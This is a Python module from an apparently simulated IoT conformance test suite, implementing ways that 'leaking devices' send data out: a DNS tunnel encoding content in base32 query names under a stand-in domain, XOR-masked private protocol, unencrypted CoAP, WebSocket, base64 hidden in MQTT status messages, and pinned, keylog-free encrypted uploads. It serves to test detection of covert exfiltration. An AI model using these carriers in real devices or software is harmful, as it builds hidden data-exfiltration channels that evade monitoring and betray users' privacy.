"""Ways in which leaking devices bring content out: WebSocket, CoAP, DNS names, a private protocol, MQTT in base64.

Each is a function of the device's `CloudLink` and the content, and speaks the wire for real. Good devices use none.
"""

from __future__ import annotations

import base64
import contextlib
import ssl
import struct
from collections.abc import Callable, Iterator

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from pytest_conformance.simulation import quic
from pytest_conformance.simulation.cloud.side_doors import COAP, PRIVATE
from pytest_conformance.simulation.cloud.websocket_door import masked
from pytest_conformance.simulation.devices.cloudlink import TIMEOUT, CloudLink
from pytest_conformance.simulation.network import addresses, dns

Carrier = Callable[[CloudLink, bytes], None]

TUNNEL = "t.cdn-cache.example"
"""Domain below which the DNS tunnel asks for names."""
KEY = bytes.fromhex("5ac31f90")
"""What the private protocol XORs its records with."""
_FRAGMENT, _BLOCK, _RECORD = 4096, 1024, 1024
_LABEL, _LABELS = 60, 3


def carried(carrier: Carrier, link: CloudLink, content: bytes) -> None:
    """Bring `content` out; a network that is not there is logged, as every device would."""
    try:
        carrier(link, content)
    except OSError as error:
        link.device.log("offline", to=link.hosts["api"], text=str(error))


def by_mqtt_json(link: CloudLink, content: bytes) -> None:
    """Publish the content in base64 as one member of a JSON message."""
    text = base64.b64encode(content).decode()
    link.publish("event", {"type": "status", "seq": 7, "snap": text})


def by_websocket(link: CloudLink, content: bytes) -> None:
    """Open a WebSocket over TLS and send the content as one masked, fragmented binary message."""
    host = link.hosts["api"]
    key = base64.b64encode(link.device.random.randbytes(16)).decode()
    raw = link.world.net.connect(host, 443, "device", TIMEOUT)
    with link.tls().wrap_socket(raw, server_hostname=host) as line:
        line.sendall(
            f"GET /v1/live HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        _answer(line, b"\r\n\r\n")
        for frame in _frames(content, link.device.random.randbytes(4)):
            line.sendall(frame)
        line.sendall(b"\x88\x80" + bytes(4))
        _answer(line, b"\x88\x00")


def _answer(line: ssl.SSLSocket, end: bytes) -> None:
    got = b""
    while not got.endswith(end) and (more := line.recv(4096)):
        got += more


def _frames(content: bytes, mask: bytes) -> Iterator[bytes]:
    parts = [content[at : at + _FRAGMENT] for at in range(0, len(content), _FRAGMENT)] or [b""]
    for number, part in enumerate(parts):
        first = (0x80 if number == len(parts) - 1 else 0) | (0 if number else 2)
        yield struct.pack(">BBH", first, 0x80 | 126, len(part)) + mask + masked(part, mask)


def by_coap(link: CloudLink, content: bytes) -> None:
    """PUT the content over CoAP in confirmable blocks of 1024 bytes (RFC 7959), without encryption."""
    host = link.hosts["api"]
    link.world.cloud.open_side_doors(host)
    address = link.world.net.resolve(host)
    token = link.device.random.randbytes(4)
    first = link.device.random.randrange(1 << 15)
    with contextlib.closing(link.world.net.udp("device")) as line:
        line.settimeout(TIMEOUT)
        for number, at in enumerate(range(0, len(content), _BLOCK)):
            more = 8 if at + _BLOCK < len(content) else 0
            block = (number << 4 | more | 6).to_bytes(2, "big")
            head = bytes([0x44, 0x03]) + struct.pack(">H", first + number) + token
            packet = head + b"\xb1s" + b"\xd2\x03" + block + b"\xff" + content[at : at + _BLOCK]
            line.sendto(packet, (address, COAP))
            line.recvfrom(256)


def by_dns(link: CloudLink, content: bytes) -> None:
    """Ask the segment's name server for names that hold the content in base32; nobody needs to answer."""
    text = base64.b32encode(content).decode().rstrip("=").lower()
    step = _LABEL * _LABELS
    with contextlib.closing(link.world.net.udp("device")) as line:
        line.settimeout(TIMEOUT)
        for at in range(0, len(text), step):
            piece = text[at : at + step]
            labels = ".".join(piece[each : each + _LABEL] for each in range(0, len(piece), _LABEL))
            query = dns.question(f"{labels}.{TUNNEL}", at // step + 1)
            line.sendto(query, (addresses.ACCESS_POINT, addresses.DNS_PORT))
            line.recvfrom(4096)


def by_private_protocol(link: CloudLink, content: bytes) -> None:
    """Send records of a home-made protocol, their bodies XORed with a key, to a port of the cloud's host."""
    host = link.hosts["api"]
    link.world.cloud.open_side_doors(host)
    with contextlib.closing(link.world.net.connect(host, PRIVATE, "device", TIMEOUT)) as line:
        for number, at in enumerate(range(0, len(content), _RECORD)):
            body = content[at : at + _RECORD]
            line.sendall(struct.pack(">HHHH", 0x51A7, number, 1, len(body)) + masked(body, KEY))
        line.shutdown(1)
        line.recv(1)


def by_phone(link: CloudLink, content: bytes) -> None:
    """Hand the content to the companion app, which uploads it."""
    link.send("sync", content, "image/jpeg", sender="phone")


def by_quic(link: CloudLink, content: bytes, address: str) -> None:
    """Upload over HTTP/3 to an `address` known from before, over TCP where QUIC does not pass; keys are in no log."""
    host = link.hosts["api"]
    link.world.cloud.open_quic(host)
    with contextlib.closing(link.world.net.udp("device")) as line:
        try:
            quic.post(line, address, host, link.world.net.authority.pem, "/v1/visitor", content)
        except OSError as error:
            link.device.log("quic", to=host, text=str(error))
            _upload(link, "/v1/visitor", content, link.tls(keylog=False))


def _upload(link: CloudLink, path: str, content: bytes, context: ssl.SSLContext) -> None:
    """POST the content over TCP and TLS as `context` says."""
    host = link.hosts["api"]
    raw = link.world.net.connect(host, 443, "device", TIMEOUT)
    with context.wrap_socket(raw, server_hostname=host) as line:
        head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
        line.sendall(head.encode() + content)
        while line.recv(4096):
            pass


def by_pinned_upload(link: CloudLink, content: bytes, *, hold_back: bool = False) -> None:
    """Upload, sealed with the device's own key, over TLS whose session keys are in no log: nobody can read it.

    It trusts the maker's authority only. With `hold_back` it trusts what the test build trusts, and sends nothing when
    the certificate is not one that the maker's authority signed.
    """
    host = link.hosts["api"]
    nonce = link.device.random.randbytes(12)
    sealed = nonce + AESGCM(link.device.key).encrypt(nonce, content, None)
    raw = link.world.net.connect(host, 443, "device", TIMEOUT)
    with link.tls(keylog=False, pinned=not hold_back).wrap_socket(raw, server_hostname=host) as line:
        if hold_back and line.getpeercert(True) not in link.world.net.authority.issued:
            return
        head = f"POST /v1/diagnostics HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(sealed)}\r\n"
        line.sendall(f"{head}Connection: close\r\n\r\n".encode() + sealed)
        while line.recv(4096):
            pass
